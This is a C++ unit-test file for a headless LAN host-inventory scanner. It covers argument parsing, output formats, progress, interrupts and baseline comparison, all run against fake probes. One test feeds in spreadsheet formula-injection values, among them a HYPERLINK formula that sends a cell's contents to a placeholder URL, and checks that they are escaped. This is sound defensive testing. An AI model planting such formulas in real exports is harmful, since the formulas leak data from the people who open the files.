#include <algorithm>
#include <array>
#include <atomic>
#include <cerrno>
#include <condition_variable>
#include <csignal>
#include <cstdio>
#include <filesystem>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>
#include <system_error>
#include <unistd.h>

#include "app/logic/headless_scan.h"
#include "app/logic/scan_baseline.h"
#include "common/checked_output.h"
#include "fakes/fake_host_probe.h"
#include "scan/job_pool.h"
#include "store/config_store.h"
#include "stream_text.h"

namespace tessvale {
namespace {

using fakes::FakeHostProbe;
using fakes::FakeVendorLookup;

HeadlessParse Parse(std::vector<const char*> arguments, HeadlessScanOptions& options, std::string& error)
{
    arguments.insert(arguments.begin(), "tessvale");
    return ParseHeadlessScanArgs(static_cast<int>(arguments.size()), arguments.data(), options, error);
}

TEST(HeadlessScanArgs, ReadsRangesAndOptions)
{
    HeadlessScanOptions options;
    std::string error;
    ASSERT_EQ(
        Parse({"--scan", "10.0.0.1", "10.0.0.254", "--threads", "100", "--timeout", "250", "--csv"}, options, error),
        HeadlessParse::Scan)
        << error;
    ASSERT_EQ(options.ranges.size(), 1u);
    EXPECT_EQ(options.ranges[0].first, "10.0.0.1");
    EXPECT_EQ(options.ranges[0].last, "10.0.0.254");
    EXPECT_EQ(options.threads, 100);
    EXPECT_EQ(options.timeoutMs, 250);
    EXPECT_EQ(options.format, OutputFormat::Csv);
    EXPECT_FALSE(options.header);
    EXPECT_FALSE(options.sorted);

    // CIDR blocks and address pairs mixed, in the order given.
    ASSERT_EQ(Parse({"--scan", "198.18.0.77/24", "--format", "json", "10.0.0.9", "10.0.0.12", "--header", "--sorted",
                     "198.18.1.0/30", "198.18.2.5/32"},
                    options, error),
              HeadlessParse::Scan)
        << error;
    ASSERT_EQ(options.ranges.size(), 4u);
    EXPECT_EQ(options.ranges[0].first, "198.18.0.1");
    EXPECT_EQ(options.ranges[0].last, "198.18.0.254");
    EXPECT_EQ(options.ranges[1].first, "10.0.0.9");
    EXPECT_EQ(options.ranges[1].last, "10.0.0.12");
    EXPECT_EQ(options.ranges[2].first, "198.18.1.1");
    EXPECT_EQ(options.ranges[2].last, "198.18.1.2");
    EXPECT_EQ(options.ranges[3].first, "198.18.2.5");
    EXPECT_EQ(options.ranges[3].last, "198.18.2.5");
    EXPECT_EQ(options.format, OutputFormat::Json);
    EXPECT_TRUE(options.header);
    EXPECT_TRUE(options.sorted);

    ASSERT_EQ(Parse({"--scan", "--format", "tsv"}, options, error), HeadlessParse::Scan);
    EXPECT_TRUE(options.ranges.empty());
    EXPECT_FALSE(options.threads.has_value());
    EXPECT_EQ(options.format, OutputFormat::Tsv);

    EXPECT_EQ(Parse({"-m", "10.0.0.1"}, options, error), HeadlessParse::NotAScan);
    EXPECT_EQ(Parse({}, options, error), HeadlessParse::NotAScan);
}

TEST(HeadlessScanArgs, NamesChoosesTheNameSourcesOfTheRun)
{
    struct Case
    {
        const char* list;
        bool netbios, mdns, dns;
    };
    const Case cases[] = {{"netbios,mdns,dns", true, true, true},
                          {"dns", false, false, true},
                          {"mdns,netbios", true, true, false},
                          {"none", false, false, false}};
    for (const auto& c : cases) {
        HeadlessScanOptions options;
        std::string error;
        ASSERT_EQ(Parse({"--scan", "--names", c.list}, options, error), HeadlessParse::Scan) << error;
        ASSERT_TRUE(options.names) << c.list;
        EXPECT_EQ(options.names->netbios, c.netbios) << c.list;
        EXPECT_EQ(options.names->mdns, c.mdns) << c.list;
        EXPECT_EQ(options.names->dns, c.dns) << c.list;
    }
    HeadlessScanOptions options;
    std::string error;
    ASSERT_EQ(Parse({"--scan"}, options, error), HeadlessParse::Scan);
    EXPECT_FALSE(options.names); // the settings decide
}

TEST(HeadlessScanArgs, BadInputIsAnErrorWithAReason)
{
    const std::vector<std::vector<const char*>> bad = {
        {"--scan", "10.0.0.1"},                                // one end only
        {"--scan", "10.0.0.1", "198.18.0.0/24"},               // one end, then a block
        {"--scan", "10.0.0.300", "10.0.0.4"},                  // not an address
        {"--scan", "10.0.0.9", "10.0.0.4"},                    // last below first
        {"--scan", "10.0.0.1", "10.0.0.4", "--threads", "x"},  // not a number
        {"--scan", "10.0.0.1", "10.0.0.4", "--threads", "-3"}, // not a count
        {"--scan", "10.0.0.1", "10.0.0.4", "--threads", "5000"},
        {"--scan", "10.0.0.1", "10.0.0.4", "--timeout"},
        {"--scan", "10.0.0.1", "10.0.0.4", "--verbose"},
        {"--scan", "1.1.1.1", "1.1.1.2", "1.1.1.3"},
        {"--scan", "198.18.0.0/33"},
        {"--scan", "198.18.0.0/"},
        {"--scan", "198.18.0/24"},
        {"--scan", "10.0.0.0/7"}, // more addresses than one run takes
        {"--scan", "0.0.0.0", "255.255.255.255"},
        {"--scan", "198.18.0.0/24", "--format", "xml"},
        {"--scan", "198.18.0.0/24", "--format"},
        {"--scan", "198.18.0.0/24", "--against"},
        {"--scan", "198.18.0.0/24", "--against", ""},
        {"--scan", "198.18.0.0/24", "--names", "wins"},
        {"--scan", "198.18.0.0/24", "--names", "mdns,"},
        {"--scan", "198.18.0.0/24", "--names", ""},
        {"--scan", "198.18.0.0/24", "--names"},
    };
    for (const auto& arguments : bad) {
        HeadlessScanOptions options;
        std::string error;
        EXPECT_EQ(Parse(arguments, options, error), HeadlessParse::Error) << arguments[1] << " " << arguments.back();
        EXPECT_FALSE(error.empty());
    }
    HeadlessScanOptions options;
    std::string error;
    EXPECT_EQ(Parse({"--scan", "10.0.0.0/8"}, options, error), HeadlessParse::Scan) << error;
    EXPECT_FALSE(options.against);
    EXPECT_EQ(Parse({"--scan", "--against", "-old.tsv", "10.0.0.0/8"}, options, error), HeadlessParse::Scan) << error;
    EXPECT_EQ(options.against, "-old.tsv");
    ASSERT_EQ(options.ranges.size(), 1u);
}

// A record of the nine column texts, IP to NetCard Vendor.
HostRecord Host(const std::array<std::string, 9>& texts)
{
    HostRecord record;
    record.ip = texts[0];
    record.mac = texts[1];
    record.hostName = texts[2];
    HostInventory& inventory = record.inventory;
    inventory.cpu = texts[3];
    inventory.memoryMb = texts[4];
    inventory.shares = texts[5];
    inventory.systemVersion = texts[6];
    inventory.adapterSpeed = texts[7];
    inventory.vendor = texts[8];
    return record;
}

TEST(HeadlessScanLines, TabCsvAndJsonForms)
{
    HostRecord record =
        Host({"10.0.0.7", "00:1B:21:0A:0B:0C", "PC07", "", "", "C$;print,er;", "Say \"hi\"", "", "Intel Corporate\r"});
    EXPECT_EQ(HeadlessHeaderLine(OutputFormat::Tsv),
              "IP\tMAC\tHostName\tCPU\tRAM Size\tShare File\tSystemVer\tNetCard Type\tNetCard Vendor\n");
    EXPECT_EQ(HeadlessHeaderLine(OutputFormat::Json), "");
    EXPECT_EQ(HeadlessHostLine(record, OutputFormat::Tsv),
              "10.0.0.7\t00:1B:21:0A:0B:0C\tPC07\t\t\tC$;print,er;\tSay \"hi\"\t\tIntel Corporate\n");
    EXPECT_EQ(HeadlessHostLine(record, OutputFormat::Csv),
              "10.0.0.7,00:1B:21:0A:0B:0C,PC07,,,\"C$;print,er;\",\"Say \"\"hi\"\"\",,Intel Corporate\n");
    EXPECT_EQ(HeadlessHostLine(record, OutputFormat::Json),
              "{\"IP\":\"10.0.0.7\",\"MAC\":\"00:1B:21:0A:0B:0C\",\"HostName\":\"PC07\",\"CPU\":\"\",\"RAM Size\":\"\","
              "\"Share File\":\"C$;print,er;\",\"SystemVer\":\"Say \\\"hi\\\"\",\"NetCard Type\":\"\","
              "\"NetCard Vendor\":\"Intel Corporate\\u000d\","
              "\"names\":{\"netbios\":null,\"mdns\":null,\"dns\":null},\"services\":[]}\n");
    // Every name with its source and the service types; the TSV and CSV forms keep
    // their nine fields.
    record.names = {"PC07", "pc07.local", "pc07.office.example", {"_ssh._tcp", "_x\"y._tcp"}};
    EXPECT_NE(HeadlessHostLine(record, OutputFormat::Json)
                  .find(",\"names\":{\"netbios\":\"PC07\",\"mdns\":\"pc07.local\",\"dns\":\"pc07.office.example\"},"
                        "\"services\":[\"_ssh._tcp\",\"_x\\\"y._tcp\"]}\n"),
              std::string::npos)
        << HeadlessHostLine(record, OutputFormat::Json);
    EXPECT_EQ(HeadlessHostLine(record, OutputFormat::Tsv),
              "10.0.0.7\t00:1B:21:0A:0B:0C\tPC07\t\t\tC$;print,er;\tSay \"hi\"\t\tIntel Corporate\n");
    record.names = {};

    record.inventory.cpu = "two\tcolumns\nand lines";
    EXPECT_NE(HeadlessHostLine(record, OutputFormat::Tsv).find("\tPC07\ttwo columns and lines\t\t"), std::string::npos);
    EXPECT_NE(HeadlessHostLine(record, OutputFormat::Csv).find("\"two\tcolumns\nand lines\""), std::string::npos);
    EXPECT_NE(HeadlessHostLine(record, OutputFormat::Json).find("\"CPU\":\"two\\u0009columns\\u000aand lines\""),
              std::string::npos);
}

// Host texts a spreadsheet would run as formulas are marked in the CSV form only; the
// "-" of a host without a name stays as it is.
TEST(HeadlessScanLines, CsvFieldsNeverStartAFormula)
{
    const HostRecord record = Host({"10.0.0.7", "00:1B:21:0A:0B:0C", "=1+2*3", "@SUM(1+1)", "-",
                                    R"(=HYPERLINK("http://x/?"&A2,"Details"))", "+x", "-1", ""});
    EXPECT_EQ(HeadlessHostLine(record, OutputFormat::Csv),
              "10.0.0.7,00:1B:21:0A:0B:0C,'=1+2*3,'@SUM(1+1),-,"
              "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Details\"\")\",'+x,'-1,\n");
    EXPECT_EQ(HeadlessHostLine(record, OutputFormat::Tsv).substr(0, 38), "10.0.0.7\t00:1B:21:0A:0B:0C\t=1+2*3\t@SUM");
}

TEST(HeadlessScanProgress, BarCountsAndEstimate)
{
    using std::chrono::seconds;
    EXPECT_EQ(ProgressLine(0, 254, 0, seconds(0)), "[....................] 0/254 addresses, 0 hosts, 00:00 elapsed");
    // A quarter done in 30 s: 90 s more.
    EXPECT_EQ(ProgressLine(64, 256, 1, seconds(30)),
              "[#####...............] 64/256 addresses, 1 host, 00:30 elapsed, about 01:30 left");
    EXPECT_EQ(ProgressLine(256, 256, 12, seconds(3725)),
              "[####################] 256/256 addresses, 12 hosts, 1:02:05 elapsed");
    // More steps than addresses (never expected) do not overflow the bar.
    EXPECT_EQ(ProgressLine(300, 256, 2, seconds(1)).substr(0, 32), "[####################] 256/256 a");
}

// The scan over fakes, its table read back from temporary files.
class HeadlessScanRun : public ::testing::Test
{
protected:
    HeadlessScanRun() : m_pool([] { return std::uint64_t{0}; }) {}
    ~HeadlessScanRun() override
    {
        EXPECT_EQ(std::fclose(m_out), 0);
        EXPECT_EQ(std::fclose(m_err), 0);
    }

    int Run(const HeadlessScanOptions& options, const InterruptWait& wait, const WaitWake& wake = {})
    {
        return RunHeadlessScan(options, HeadlessScanDeps{m_pool, m_store, m_probe, m_vendors, nullptr}, m_out, m_err,
                               wait, wake);
    }
    static std::string Read(std::FILE* file) { return test::StreamText(file); }
    // Two ranges of answering hosts, slow enough that an interruption comes in the first.
    HeadlessScanOptions TwoSlowRanges(int threads)
    {
        for (int i = 1; i <= 254; ++i) {
            m_probe.AddNetbiosHost("198.18.0." + std::to_string(i), "00:1B:21:00:00:01", "PC");
        }
        m_probe.SetDelay(std::chrono::milliseconds(5));
        HeadlessScanOptions options;
        options.ranges = {{"198.18.0.1", "198.18.0.254"}, {"198.18.1.1", "198.18.1.254"}};
        options.threads = threads;
        return options;
    }
    // A wait that reports the signal at its third call.
    static InterruptWait InterruptAtThirdPoll(int signal)
    {
        return [signal, polls = std::make_shared<std::atomic<int>>(0)](std::chrono::milliseconds timeout) {
            std::this_thread::sleep_for(timeout);
            return ++*polls >= 3 ? signal : 0;
        };
    }

    JobPool m_pool;
    ConfigStore m_store;
    FakeHostProbe m_probe;
    FakeVendorLookup m_vendors;
    std::FILE* m_out = std::tmpfile();
    std::FILE* m_err = std::tmpfile();
};

// An output that fails (full disk, closed descriptor, the reader gone): the scan ends
// with the write-error status, says the reason once (nothing for a closed pipe) and
// prints no counts, as found or in address order.
TEST_F(HeadlessScanRun, AnOutputThatFailsEndsTheScanWithItsOwnStatus)
{
    for (int i = 1; i <= 9; ++i) {
        m_probe.AddArpHost("198.18.0." + std::to_string(i), "02:00:00:00:00:0" + std::to_string(i));
    }
    struct Case
    {
        bool sorted;
        bool header;
        bool closedPipe;
    };
    for (const Case c : {Case{false, false, false}, Case{true, false, false}, Case{false, true, false},
                         Case{false, false, true}, Case{true, true, true}}) {
        std::FILE* out = nullptr;
        int pipeEnds[2] = {-1, -1};
        if (c.closedPipe) {
            ASSERT_EQ(pipe(pipeEnds), 0);
            close(pipeEnds[0]); // no reader
            out = fdopen(pipeEnds[1], "w");
        } else {
            out = std::fopen("/dev/full", "w");
        }
        ASSERT_NE(out, nullptr);
        ASSERT_NE(std::signal(SIGPIPE, SIG_IGN), SIG_ERR);
        HeadlessScanOptions options;
        options.ranges = {{"198.18.0.1", "198.18.0.254"}};
        options.threads = 2;
        options.sorted = c.sorted;
        options.header = c.header;
        std::FILE* err = std::tmpfile();
        const int status = RunHeadlessScan(options, HeadlessScanDeps{m_pool, m_store, m_probe, m_vendors, nullptr}, out,
                                           err, [](std::chrono::milliseconds) { return 0; });
        EXPECT_EQ(status, kWriteErrorExitCode) << c.sorted << c.header << c.closedPipe;
        const std::string said = Read(err);
        EXPECT_EQ(said, c.closedPipe ? std::string()
                                     : "tessvale: write error: " + std::generic_category().message(ENOSPC) + "\n")
            << c.sorted << c.header << c.closedPipe;
        EXPECT_EQ(std::fclose(err), 0);
        IgnoreResult(std::fclose(out)); // it fails again, as the writes did
    }
    EXPECT_NE(std::signal(SIGPIPE, SIG_DFL), SIG_ERR);
}

// What -m writes when it sweeps: every answering address with its MAC, in address
// order however the workers met them.
TEST_F(HeadlessScanRun, SweepForMacsGivesTheAnsweringAddressesInOrder)
{
    m_probe.AddArpHost("198.18.0.9", "02:00:00:00:00:09");
    m_probe.AddNetbiosHost("198.18.0.5", "00:1B:21:00:00:05", "PC05");
    m_probe.AddArpHost("198.18.0.200", "02:00:00:00:00:C8");
    std::vector<std::pair<std::uint32_t, std::string>> found;
    EXPECT_EQ(SweepForMacs(
                  AddressSpan{0xC6120001u, 0xC61200FEu}, m_pool, m_store, m_probe,
                  [](std::chrono::milliseconds timeout) {
                      std::this_thread::sleep_for(timeout);
                      return 0;
                  },
                  found),
              0);
    const std::vector<std::pair<std::uint32_t, std::string>> expected = {
        {0xC6120005u, "00:1B:21:00:00:05"}, {0xC6120009u, "02:00:00:00:00:09"}, {0xC61200C8u, "02:00:00:00:00:C8"}};
    EXPECT_EQ(found, expected);
}

TEST_F(HeadlessScanRun, ListsTheAnsweringHostsAndCountsOnStandardError)
{
    m_probe.AddNetbiosHost("198.18.0.5", "00:1B:21:00:00:05", "PC05");
    m_probe.AddArpHost("198.18.0.9", "02:00:00:00:00:09");
    m_vendors.Add("00:1B:21", "Intel Corporate");
    HeadlessScanOptions options;
    options.ranges = {{"198.18.0.1", "198.18.0.20"}};
    options.threads = 3;
    options.header = true;
    EXPECT_EQ(Run(options, [](std::chrono::milliseconds) { return false; }), 0);

    const std::string out = Read(m_out);
    EXPECT_EQ(out.rfind(HeadlessHeaderLine(OutputFormat::Tsv), 0), 0u);
    EXPECT_NE(out.find("198.18.0.5\t00:1B:21:00:00:05\tPC05\t\t\t\t\t\tIntel Corporate\n"), std::string::npos);
    EXPECT_NE(out.find("198.18.0.9\t02:00:00:00:00:09\t-\t\t\t\t\t\t\n"), std::string::npos);
    EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), 3);
    // Not a terminal: no progress, only the counts.
    EXPECT_EQ(Read(m_err), "Online:2/Offline:18\n");

    // The thread count applied to this run only: the document was not written.
    EXPECT_EQ(m_store.LoadSettings().Value(kAutoscanThreads), "3");
    EXPECT_TRUE(m_store.Path().empty() || !std::filesystem::exists(m_store.Path()));
}

TEST_F(HeadlessScanRun, NoHostFoundExitsWithOneAndPrintsNoHeaderUnasked)
{
    HeadlessScanOptions options;
    options.ranges = {{"198.18.0.1", "198.18.0.6"}};
    EXPECT_EQ(Run(options, [](std::chrono::milliseconds) { return false; }), 1);
    EXPECT_EQ(Read(m_out), "");
    EXPECT_EQ(Read(m_err), "Online:0/Offline:6\n");
}

TEST_F(HeadlessScanRun, SeveralRangesSortedWithProgress)
{
    // The ranges come in falling address order: as found, the rows would too.
    m_probe.AddNetbiosHost("198.18.1.2", "00:1B:21:00:01:02", "LOW");
    m_probe.AddNetbiosHost("198.18.0.200", "00:1B:21:00:00:C8", "HIGH");
    m_probe.AddArpHost("10.0.0.3", "02:00:00:00:00:03");
    HeadlessScanOptions options;
    options.ranges = {{"198.18.1.1", "198.18.1.2"}, {"198.18.0.199", "198.18.0.201"}, {"10.0.0.3", "10.0.0.3"}};
    options.format = OutputFormat::Json;
    options.sorted = true;
    options.progress = true;
    options.header = true; // JSON has no header line
    options.threads = 2;
    EXPECT_EQ(Run(options, [](std::chrono::milliseconds) { return false; }), 0);

    const std::string out = Read(m_out);
    const std::size_t first = out.find(R"("IP":"10.0.0.3")");
    const std::size_t second = out.find(R"("IP":"198.18.0.200")");
    const std::size_t third = out.find(R"("IP":"198.18.1.2")");
    ASSERT_NE(first, std::string::npos) << out;
    ASSERT_NE(second, std::string::npos) << out;
    ASSERT_NE(third, std::string::npos) << out;
    EXPECT_LT(first, second);
    EXPECT_LT(second, third);
    EXPECT_EQ(out.front(), '{');
    EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), 3);

    // The bar counts the whole run, and is cleared before the counts.
    const std::string err = Read(m_err);
    EXPECT_NE(err.find("] 6/6 addresses, 3 hosts"), std::string::npos) << err;
    EXPECT_NE(err.find("\r\033[KOnline:3/Offline:3\n"), std::string::npos) << err;
}

TEST_F(HeadlessScanRun, InterruptStopsAndDrainsWithoutAPartialLine)
{
    HeadlessScanOptions options = TwoSlowRanges(4);
    options.header = true;
    EXPECT_EQ(Run(options, InterruptAtThirdPoll(SIGINT)), 130);
    // The second range never started.
    EXPECT_EQ(Read(m_out).find("198.18.1."), std::string::npos);

    const std::string out = Read(m_out);
    ASSERT_FALSE(out.empty());
    EXPECT_EQ(out.back(), '\n');
    const long lines = std::count(out.begin(), out.end(), '\n');
    EXPECT_GT(lines, 1);
    EXPECT_LT(lines, 255);
    EXPECT_EQ(Read(m_err), "Online:" + std::to_string(lines - 1) + "/Offline:0\n");
    // Nothing is written after the command returned.
    std::this_thread::sleep_for(std::chrono::milliseconds(30));
    EXPECT_EQ(Read(m_out), out);
}

TEST_F(HeadlessScanRun, AgainstABaselineMarksEachRowPrintsTheGoneAndExitsWithThree)
{
    m_probe.AddNetbiosHost("198.18.0.5", "00:1B:21:00:00:55", "PC05"); // another MAC than before
    m_probe.AddArpHost("198.18.0.9", "02:00:00:00:00:09");             // as before
    m_probe.AddNetbiosHost("198.18.0.12", "02:00:00:00:00:0C", "NEW");
    HeadlessScanOptions options;
    options.ranges = {{"198.18.0.1", "198.18.0.20"}};
    options.header = true;
    options.sorted = true;
    options.baseline = std::vector<HostSnapshot>{
        {"198.18.0.5", "00-1b-21-00-00-05", "PC05", {}},
        {"198.18.0.7", "02:00:00:00:00:07", "GONE07", {}},
        {"198.18.0.9", "02:00:00:00:00:09", "-", {}},
        {"198.18.7.7", "02:00:00:00:07:07", "ELSEWHERE", {}}, // outside the range: not asked, not gone
    };
    EXPECT_EQ(Run(options, [](std::chrono::milliseconds) { return false; }), 3);
    EXPECT_EQ(Read(m_out), HeadlessHeaderLine(OutputFormat::Tsv, true) +
                               "198.18.0.5\t00:1B:21:00:00:55\tPC05\t\t\t\t\t\t\tMAC changed\n"
                               "198.18.0.7\t02:00:00:00:00:07\tGONE07\t\t\t\t\t\t\tgone\n"
                               "198.18.0.9\t02:00:00:00:00:09\t-\t\t\t\t\t\t\t\n"
                               "198.18.0.12\t02:00:00:00:00:0C\tNEW\t\t\t\t\t\t\tnew\n");
    EXPECT_EQ(Read(m_err), "Online:3/Offline:17\nChanges: 1 new, 1 gone, 1 changed\n");
}

TEST_F(HeadlessScanRun, AHostInTwoRangesCarriesItsChangeOnBothLines)
{
    m_probe.AddArpHost("198.18.0.5", "02:00:00:00:00:05");
    HeadlessScanOptions options;
    options.ranges = {{"198.18.0.4", "198.18.0.5"}, {"198.18.0.5", "198.18.0.6"}};
    options.baseline = std::vector<HostSnapshot>{};
    EXPECT_EQ(Run(options, [](std::chrono::milliseconds) { return false; }), 3);
    const std::string line = "198.18.0.5\t02:00:00:00:00:05\t-\t\t\t\t\t\t\tnew\n";
    EXPECT_EQ(Read(m_out), line + line);
    EXPECT_EQ(Read(m_err), "Online:2/Offline:2\nChanges: 1 new\n");
}

TEST_F(HeadlessScanRun, AnOutputReadBackAsBaselineShowsNoChangeAndExitsWithZero)
{
    m_probe.AddNetbiosHost("198.18.0.5", "00:1B:21:00:00:05", "Lab, \"A\"");
    m_probe.AddArpHost("198.18.0.9", "02:00:00:00:00:09");
    HeadlessScanOptions options;
    options.ranges = {{"198.18.0.1", "198.18.0.10"}};
    options.format = OutputFormat::Csv;
    options.header = true;
    options.baseline = std::vector<HostSnapshot>{{"198.18.0.3", "02:00:00:00:00:03", "OLD", {}}};
    EXPECT_EQ(Run(options, [](std::chrono::milliseconds) { return false; }), 3);
    const std::string first = Read(m_out);
    EXPECT_NE(first.find("198.18.0.3,02:00:00:00:00:03,OLD,,,,,,,gone\n"), std::string::npos) << first;

    // The first run's output, gone line and all, is the second run's baseline.
    options.baseline.emplace();
    std::string error;
    ASSERT_TRUE(ParseBaseline(first, *options.baseline, error)) << error;
    ASSERT_EQ(options.baseline->size(), 2u);
    EXPECT_EQ(std::fclose(m_out), 0);
    EXPECT_EQ(std::fclose(m_err), 0);
    m_out = std::tmpfile();
    m_err = std::tmpfile();
    EXPECT_EQ(Run(options, [](std::chrono::milliseconds) { return false; }), 0);
    const std::string second = Read(m_out);
    EXPECT_EQ(std::count(second.begin(), second.end(), '\n'), 3) << second;
    EXPECT_EQ(second.find("gone"), std::string::npos) << second;
    EXPECT_NE(second.find(",Change\n"), std::string::npos) << second;
    EXPECT_NE(second.find("Lab, \"\"A\"\"\",,,,,,,\n"), std::string::npos) << second;
    EXPECT_EQ(Read(m_err), "Online:2/Offline:8\nChanges: none\n");
}

TEST_F(HeadlessScanRun, AnInterruptedComparisonCallsNoHostGone)
{
    HeadlessScanOptions options = TwoSlowRanges(2);
    options.format = OutputFormat::Json;
    options.baseline = std::vector<HostSnapshot>{{"198.18.1.200", "02:00:00:00:00:03", "LATER", {}}};
    EXPECT_EQ(Run(options, InterruptAtThirdPoll(SIGTERM)), 143);
    const std::string out = Read(m_out);
    EXPECT_EQ(out.find("gone"), std::string::npos);
    EXPECT_NE(out.find(R"("Change":"new","names":)"), std::string::npos) << out;
}

TEST_F(HeadlessScanRun, WithAWakeEachRangeIsAwaitedWithoutATimeLimitAndTheEndEndsTheWait)
{
    m_probe.AddNetbiosHost("198.18.0.5", "00:1B:21:00:00:05", "PC05");
    m_probe.SetDelay(std::chrono::milliseconds(2));
    HeadlessScanOptions options;
    options.ranges = {{"198.18.0.1", "198.18.0.8"}, {"198.18.0.9", "198.18.0.12"}, {"198.18.0.13", "198.18.0.13"}};
    options.threads = 2;
    std::mutex mutex;
    std::condition_variable woken;
    int wakes = 0;
    int waits = 0;
    bool unlimited = true;
    const auto wait = [&](std::chrono::milliseconds timeout) {
        std::unique_lock lock(mutex);
        ++waits;
        unlimited = unlimited && timeout == std::chrono::milliseconds::max();
        woken.wait(lock, [&] { return wakes > 0; }); // only a wake ends it
        --wakes;
        return false;
    };
    const auto wake = [&] {
        {
            std::lock_guard lock(mutex);
            ++wakes;
        }
        woken.notify_all();
    };
    EXPECT_EQ(Run(options, wait, wake), 0);
    EXPECT_EQ(Read(m_err), "Online:1/Offline:12\n");
    EXPECT_TRUE(unlimited);
    // At most a wait per range and one for a wake left over from a range that ended
    // before its wait began: no looking again by the clock.
    EXPECT_LE(waits, 2 * static_cast<int>(options.ranges.size()));
}

} // namespace
} // namespace tessvale
